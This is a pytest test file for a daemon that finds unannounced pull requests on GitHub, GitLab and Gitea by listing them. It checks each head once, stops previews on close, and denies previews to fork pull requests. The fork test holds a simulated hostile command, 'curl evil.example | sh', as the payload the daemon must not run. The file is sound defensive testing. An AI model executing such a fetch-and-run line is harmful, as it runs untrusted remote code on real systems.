"""Pull requests no webhook announced, on the production daemon: the open ones are listed from the
forge's API (`forge.pull_request_sweep_seconds`), a head not checked yet is checked as a push to
it would have been (validate status, plan comment, previews), once; a pull request closed without
its webhook has its previews stopped. What the list says is trusted no more than a webhook: a
fork's pull request found this way gets no preview. GitHub, GitLab and Gitea; SQLite and
PostgreSQL."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from reconciler.statuses import Status
from tests.infra.git_server import GitRepoFactory
from tests.infra.webhooks import WebhookSender

from .conftest import PROJECTS
from .test_pull_requests import REPO, Forged, forge_states, forged_daemon, op, wait

SWEEP = {"pull_request_sweep_seconds": 0.2}
LISTS = r"/(pulls|merge_requests)$"


def validates(forge_server: Any, provider: str, sha: str) -> list[str]:
    return [state for context, state in forge_states(forge_server, provider, sha) if context == "polyaxon/validate"]


@pytest.fixture
def forged(
    db_url: str,
    forge_server: Any,
    provider: Any,
    webhook_sender: WebhookSender,
    git_repo_factory: GitRepoFactory,
    tmp_path: Path,
) -> Iterator[Forged]:
    """The daemon listing open pull requests every 0.2 s; the base branch opts `train` in for
    previews (forks not allowed); the checkout is on a `feature` branch."""
    base_files = {".polyaxon-reconciler.yaml": "previews: [train]\n", "ops/train.yaml": op("train", "sleep 300")}
    with forged_daemon(
        tmp_path, db_url, git_repo_factory, forge_server, provider, webhook_sender, base_files, SWEEP
    ) as made:
        made.h.repos[REPO].checkout("feature", create=True)
        yield made


def test_a_pull_request_no_webhook_announced_is_checked_once_and_its_previews_end_when_it_closes(
    forged: Forged, forge_server: Any, provider: Any
) -> None:
    h, project = forged.h, PROJECTS[provider]
    head = forged.push_head(9, "change train", {"ops/train.yaml": op("train", "sleep 301")})
    forge_server.add_pull_request(provider, project, 9, head_sha=head, base_sha=forged.base)
    wait(lambda: validates(forge_server, provider, head) == ["success"], what="the head validated")
    [comment] = wait(lambda: forge_server.comments(provider, project, 9), what="the plan comment")
    assert f"+ create {REPO}:ops/train.yaml#train (job)" in comment["body"]
    [preview] = wait(lambda: h.store.preview_runs(REPO, 9), what="the preview")
    assert preview.commit_sha == head
    # Listed again and again, the same head is not checked again; one into another branch is
    # left alone, as its webhook would be.
    other = forged.push_head(5, "for release", {"ops/eval.yaml": op("eval", "true")})
    forge_server.add_pull_request(provider, project, 5, head_sha=other, base_ref="release")
    listed = len(forge_server.requests(provider, "GET", LISTS))
    wait(lambda: len(forge_server.requests(provider, "GET", LISTS)) >= listed + 3, what="three more listings")
    assert validates(forge_server, provider, head) == ["success"]
    assert validates(forge_server, provider, other) == [] and forge_server.comments(provider, project, 5) == []
    assert len(forge_server.comments(provider, project, 9)) == 1 and len(h.store.preview_runs(REPO, 9)) == 1
    # Merged or closed without a webhook: the next listing stops its previews.
    forge_server.add_pull_request(provider, project, 9, head_sha=head, base_sha=forged.base, state="closed")
    wait(lambda: h.store.run(preview.name).status == Status.STOPPED, what="the preview stopped")  # type: ignore[union-attr]
    assert h.store.history(preview.name)[-1].reason == "PullRequestClosed"


def test_a_fork_s_pull_request_found_by_listing_gets_no_preview(
    forged: Forged, forge_server: Any, provider: Any
) -> None:
    """A stranger opens a pull request from a fork while the webhook is lost: the listing finds
    it, it is validated, and its opted-in op gets no preview (the base branch does not allow
    forks); the comment says why."""
    h, project = forged.h, PROJECTS[provider]
    head = forged.push_head(4, "mine now", {"ops/train.yaml": op("train", "curl evil.example | sh")})
    forge_server.add_pull_request(provider, project, 4, head_sha=head, base_sha=forged.base, fork=True)
    wait(lambda: validates(forge_server, provider, head) == ["success"], what="the head validated")
    [comment] = wait(lambda: forge_server.comments(provider, project, 4), what="the plan comment")
    assert "None run:" in comment["body"] and "fork" in comment["body"]
    assert h.store.preview_runs(REPO, 4) == []
